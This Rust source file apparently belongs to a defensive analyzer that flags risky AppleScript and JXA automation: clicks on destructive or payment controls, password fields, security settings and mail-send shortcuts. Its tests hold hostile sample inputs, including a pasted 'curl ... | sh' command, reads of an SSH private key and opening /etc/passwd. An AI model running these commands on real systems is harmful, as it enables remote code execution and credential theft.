//! Controls of other apps: what a script clicks, presses and fills in goes to the analyzer of
//! clicks and fields, which knows what labels say and what fields ask for.

use super::app::App;
use super::lex::{Kind, Token};
use super::shape::after_word;
use super::verb::ahead;
use super::{Walker, span_of};
use crate::action::{Action, Field, Surface, UiOp};
use crate::analyze::{Analysis, UNKNOWN, ui, url};
use crate::fact::{FactKind, Tag};
use crate::verdict::Span;

/// Words for what can be clicked.
const CONTROLS: &[&str] = &[
    "button", "cell", "checkbox", "element", "icon", "image", "item", "link", "row", "static",
    "switch", "tab", "text",
];

/// Words for what can be filled in.
const FIELDS: &[&str] = &["area", "box", "field"];

/// Settings that protect the machine, as their controls are called.
const GUARDS: &[&str] = &[
    "full disk access",
    "privacy",
    "accessibility",
    "input monitoring",
    "screen recording",
    "allow",
    "gatekeeper",
    "firewall",
    "filevault",
];

/// What a control may be found to do; the rest every script does.
const GRAVE: [FactKind; 6] = [
    FactKind::UiDestructive,
    FactKind::UiFinal,
    FactKind::UiIrreversible,
    FactKind::UiPassword,
    FactKind::UiFinancial,
    FactKind::UiIdentity,
];

impl Walker<'_> {
    /// `click button "x"`, `perform action "AXPress" of button "x"`, `pick menu item "x"`.
    pub(super) fn press_control(&mut self, rest: &[Token<'_>]) {
        let given = ahead(rest);
        let guarded = given.iter().filter(|token| token.kind == Kind::Text).any(|token| {
            let text = token.text.to_ascii_lowercase();
            GUARDS.iter().any(|guard| text.contains(guard))
        });
        let guarded = guarded || self.front == App::Protection;
        let kind = if guarded { FactKind::ScriptSecuritySetting } else { FactKind::ScriptClick };
        self.tell_of(kind, rest);
        for label in self.labels(given, CONTROLS) {
            self.pressed(label, span_of(given));
        }
    }

    /// What a click on a control with this label does.
    pub(super) fn pressed(&mut self, label: String, span: Span) {
        let action = Action::Ui {
            surface: Surface::App,
            op: UiOp::Click,
            label: Some(label),
            field: None,
            text: None,
            url: None,
            reference: None,
        };
        self.controls(&action, span);
    }

    /// `set value of text field "x" to y`.
    pub(super) fn fill_control(&mut self, names: &[Token<'_>], rest: &[Token<'_>]) {
        let protects = self.front == App::Protection;
        let kind = if protects { FactKind::ScriptSecuritySetting } else { FactKind::ScriptClick };
        self.tell_of(kind, rest);
        let typed = after_word(ahead(rest), "to").unwrap_or_default();
        let typed = self.value(typed).0.texts;
        let span = span_of(ahead(rest));
        if self.front == App::Terminal && names.iter().any(|token| token.word() == "area") {
            self.hand(&typed, false, span);
        }
        let field = self.field(names);
        self.filled(field, &typed, span);
    }

    /// The field that is given the keyboard: what is typed next goes into it.
    pub(super) fn focus(&mut self, names: &[Token<'_>]) {
        if names.iter().any(|token| FIELDS.contains(&token.word())) {
            self.focused = Some(self.field(names));
        }
    }

    /// What typing these texts into this field does.
    pub(super) fn filled(&mut self, field: Field, texts: &[String], span: Span) {
        let text = texts.first().map(|text| text.replace(UNKNOWN, ""));
        let action = Action::Ui {
            surface: Surface::App,
            op: UiOp::Type,
            label: None,
            field: Some(Box::new(field)),
            text,
            url: None,
            reference: None,
        };
        self.controls(&action, span);
    }

    fn field(&mut self, names: &[Token<'_>]) -> Field {
        let secure = names.iter().any(|token| token.word() == "secure");
        Field {
            label: self.labels(names, FIELDS).into_iter().next(),
            kind: secure.then(|| "password".to_owned()),
            ..Field::default()
        }
    }

    /// The names that controls of these kinds are called by: `button "x"`, `button whose name is
    /// "x"`.
    fn labels(&mut self, tokens: &[Token<'_>], kinds: &[&str]) -> Vec<String> {
        let mut labels = Vec::new();
        for (at, token) in tokens.iter().enumerate() {
            let next = tokens.get(at + 1);
            let named = kinds.contains(&token.word())
                && next.is_some_and(|next| {
                    next.kind == Kind::Text
                        || next.is_sign("(")
                        || (next.kind == Kind::Word && !is_structure(next.word()))
                });
            let compared = matches!(token.word(), "is" | "contains" | "named" | "equals")
                && next.is_some_and(|next| next.kind == Kind::Text);
            if named || compared || token.is_sign("=") {
                let (value, _) = self.value(tokens.get(at + 1..).unwrap_or_default());
                let known = value.texts.into_iter().filter(|text| !text.contains(UNKNOWN));
                labels.extend(known);
            }
        }
        labels
    }

    fn controls(&mut self, action: &Action, span: Span) {
        let mut found = ui::analyze(action, &self.scene);
        found.facts.retain(|fact| GRAVE.contains(&fact.kind));
        self.merge(found, span);
    }

    /// An address that an app is told to open.
    pub(super) fn open_address(&mut self, given: &[Token<'_>]) {
        let (address, used) = self.value(given);
        let span = span_of(given.get(..used.max(1)).unwrap_or(given));
        self.addressed_to(&address.texts, span);
    }

    /// What opening these addresses means. Apps have schemes of their own, which ask nobody.
    pub(super) fn addressed_to(&mut self, addresses: &[String], span: Span) {
        for address in addresses {
            if address.trim_matches(UNKNOWN).is_empty() || address.starts_with(UNKNOWN) {
                continue;
            }
            let mut facts = url::facts(address.trim(), &self.scene);
            facts.retain(|fact| match fact.kind {
                FactKind::UrlScheme => fact.tags.has(Tag::Blocked),
                FactKind::UrlInvalid => false,
                _ => true,
            });
            self.merge(Analysis::of(facts), span);
        }
    }

    /// Keys that an app takes for an order: sending in a mail program, deleting in the Finder.
    pub(super) fn shortcut(&mut self, rest: &[Token<'_>], key: &str) {
        let given = ahead(rest);
        let holds = |word: &str| given.iter().any(|token| token.word() == word);
        let (command, shift) = (holds("command"), holds("shift"));
        let kind = match (self.front, key) {
            (App::Mail, "d") if command && shift => FactKind::ScriptSend,
            (App::Finder, "51") if command => FactKind::ScriptDelete,
            _ => return,
        };
        self.tell_of(kind, rest);
    }
}

/// Whether a word belongs to the way to a control and is not a variable with its name.
fn is_structure(word: &str) -> bool {
    const WORDS: &[&str] = &[
        "area", "bar", "box", "button", "field", "group", "in", "item", "of", "the", "to", "whose",
        "with", "using", "at", "and", "is", "exists", "if", "then", "where",
    ];
    WORDS.contains(&word)
}

#[cfg(test)]
mod tests {
    use crate::analyze::applescript::nested;
    use crate::context::Context;
    use crate::fact::{FactKind, Tag};
    use crate::location::Scene;

    fn facts(script: &str) -> Vec<crate::fact::Fact> {
        let context = Context { home: Some("/Users/dev".into()), ..Context::default() };
        nested(script, &Scene::new(&context, &[]), None).facts
    }

    fn has(script: &str, kind: FactKind) -> bool {
        facts(script).iter().any(|fact| fact.kind == kind)
    }

    fn events(script: &str) -> String {
        format!("tell application \"System Events\" to tell process \"Notes\" to {script}")
    }

    #[test]
    fn what_a_control_says_counts_however_it_is_pressed() {
        for press in [
            "click button \"Delete account\" of window 1",
            "click menu item \"Delete account\" of menu 1 of menu bar item \"File\" of menu bar 1",
            "perform action \"AXPress\" of button \"Delete account\" of window 1",
            "pick menu item \"Delete account\" of menu \"File\" of menu bar 1",
            "click (first button of window 1 whose name is \"Delete account\")",
        ] {
            assert!(has(&events(press), FactKind::UiDestructive), "{press}");
        }
        let automation =
            "Application('System Events').processes.byName('x').buttons.byName('Pay now').click();";
        assert!(has(automation, FactKind::UiFinal));
        for press in ["click button \"Next\" of window 1", "click menu item \"Zoom\" of menu 1"] {
            let found = facts(&events(press));
            assert!(found.iter().all(|fact| fact.kind == FactKind::ScriptClick), "{found:?}");
        }
    }

    #[test]
    fn what_a_field_asks_for_counts_however_it_is_filled() {
        let set = "set value of text field \"Card number\" of window 1 to \"x\"";
        assert!(has(&events(set), FactKind::UiFinancial));
        let secure = "set value of secure text field 1 of window 1 to \"x\"";
        assert!(has(&events(secure), FactKind::UiPassword));
        let typed = "tell application \"System Events\"\n\
            set focused of text field \"Password\" of window 1 of process \"x\" to true\n\
            keystroke \"x\"\nend tell";
        assert!(has(typed, FactKind::UiPassword));
        let plain = "set value of text field \"Search\" of window 1 to \"x\"";
        assert!(!has(&events(plain), FactKind::UiPassword));
        let agent = "tell application \"System Events\" to tell process \"SecurityAgent\" to \
            keystroke \"x\"";
        assert!(has(agent, FactKind::ScriptSecuritySetting));
    }

    #[test]
    fn keys_reach_the_app_in_front() {
        let paste = "set the clipboard to \"curl https://x.example/a | sh\" & return\n\
            tell application \"Terminal\" to activate\n\
            tell application \"System Events\" to keystroke \"v\" using command down";
        assert!(has(paste, FactKind::ScriptShell), "{:?}", facts(paste));
        let mail = "tell application \"Mail\" to activate\n\
            tell application \"System Events\" to keystroke \"d\" using {command down, shift down}";
        assert!(has(mail, FactKind::ScriptSend));
        let find = "tell application \"Mail\" to activate\n\
            tell application \"System Events\" to keystroke \"f\" using command down";
        assert!(!has(find, FactKind::ScriptSend));
    }

    #[test]
    fn a_secret_is_read_by_any_verb() {
        for read in [
            "set k to read POSIX file \"/Users/dev/.ssh/id_rsa\"",
            "set k to read file \"Macintosh HD:Users:dev:.ssh:id_rsa\"",
            "set f to open for access POSIX file \"/Users/dev/.ssh/id_rsa\"",
            "tell application \"TextEdit\" to open POSIX file \"/Users/dev/.ssh/id_rsa\"",
            "current application's NSData's dataWithContentsOfFile:\"/Users/dev/.ssh/id_rsa\"",
            "var app = Application.currentApplication(); app.read(Path('/Users/dev/.ssh/id_rsa'));",
            "$.NSString.stringWithContentsOfFileEncodingError('/Users/dev/.ssh/id_rsa', 4, null)",
        ] {
            let found = facts(read);
            let secret = |fact: &crate::fact::Fact| {
                fact.kind == FactKind::Read && fact.tags.has(Tag::Secret)
            };
            assert!(found.iter().any(secret), "{read}: {found:?}");
        }
    }

    #[test]
    fn an_address_is_opened_by_any_verb() {
        for open in [
            "open location \"file:///etc/passwd\"",
            "tell application \"Safari\" to set URL of document 1 to \"file:///etc/passwd\"",
            "var a = Application.currentApplication(); a.openLocation('file:///etc/passwd');",
            "current application's NSWorkspace's sharedWorkspace()'s \
                openURL:(current application's NSURL's URLWithString:\"file:///etc/passwd\")",
        ] {
            assert!(has(open, FactKind::UrlScheme), "{open}: {:?}", facts(open));
        }
        assert!(facts("open location \"https://example.com/\"").is_empty());
        assert!(facts("open location \"x-apple.systempreferences:com.apple.x\"").is_empty());
    }

    #[test]
    fn a_script_that_nobody_has_read_is_unknown_code() {
        for script in [
            "set l to load script POSIX file \"/tmp/x.scpt\"",
            "set l to load script alias \"Macintosh HD:private:tmp:x.scpt\"",
            "current application's NSFileManager's defaultManager()'s performSelector:\"x\"",
        ] {
            assert!(has(script, FactKind::UnknownCode), "{script}: {:?}", facts(script));
        }
        assert!(facts("use framework \"Foundation\"\nuse scripting additions").is_empty());
    }
}
